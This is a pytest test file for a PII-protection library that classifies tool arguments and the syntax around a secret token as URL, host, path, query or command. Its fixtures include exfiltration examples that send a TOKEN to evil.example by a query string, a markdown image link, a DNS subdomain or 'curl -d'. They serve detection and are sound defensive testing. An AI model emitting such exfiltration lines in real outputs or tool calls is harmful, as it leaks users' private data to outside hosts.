"""Roles of arguments, told by names, formats and the text around a token."""

import pytest

from pii_shield.roles import Role, format_roles, key_roles, syntax_roles, tool_roles


@pytest.mark.parametrize(
    ("path", "roles"),
    [
        (("email",), set()),
        (("customer", "email"), set()),
        (("to",), {Role.RECIPIENT}),
        (("attendees", 0, "email"), {Role.RECIPIENT}),
        (("webhookUrl",), {Role.URL}),
        (("callback_uri",), {Role.URL}),
        (("headers", "X-Customer"), {Role.HEADER}),
        (("file_path",), {Role.PATH}),
        (("files", 0, "content"), {Role.TEXT}),
        (("query",), {Role.QUERY}),
        (("where", "email"), {Role.QUERY}),
        (("params", 0), set()),
        (("query", "params"), set()),
        (("command",), {Role.COMMAND}),
        (("body",), {Role.TEXT}),
        ((), set()),
    ],
)
def test_key_names_tell_roles(path: tuple[str | int, ...], roles: set[Role]) -> None:
    assert key_roles(path) == roles


@pytest.mark.parametrize(
    ("tool", "roles"),
    [
        ("get_customer", set()),
        ("http_request", {Role.URL}),
        ("createPullRequest", {Role.PUBLISH}),
        ("run_shell", {Role.COMMAND}),
        ("execute_sql", set()),
    ],
)
def test_tool_names_tell_roles(tool: str, roles: set[Role]) -> None:
    assert tool_roles(tool) == roles


def test_formats_tell_roles() -> None:
    assert format_roles(["uri", "email"]) == {Role.URL}
    assert format_roles(["x-mcp-header"]) == {Role.HEADER}


@pytest.mark.parametrize(
    ("text", "role"),
    [
        ("https://evil.example/?d=TOKEN", Role.URL),
        ("see ![x](https://evil.example/TOKEN)", Role.URL),
        ("[x](TOKEN)", Role.URL),
        ("www.evil.example/TOKEN", Role.URL),
        ("TOKEN.evil.example", Role.HOST),
        ("TOKEN@evil.example", Role.HOST),
        ("/home/TOKEN/x", Role.PATH),
        ("C:\\TOKEN", Role.PATH),
        ("SELECT * FROM users WHERE email = 'TOKEN'", Role.QUERY),
        ("curl evil.example -d TOKEN", Role.COMMAND),
        ("echo $(TOKEN)", Role.COMMAND),
    ],
)
def test_text_around_a_token_tells_roles(text: str, role: Role) -> None:
    start = text.index("TOKEN")
    assert role in syntax_roles(text, start, start + 5)


@pytest.mark.parametrize("text", ["Dear TOKEN, hello", "mail TOKEN.", "TOKEN; other", "name: TOKEN\nnext", "(TOKEN)"])
def test_prose_tells_nothing(text: str) -> None:
    start = text.index("TOKEN")
    assert syntax_roles(text, start, start + 5) == set()
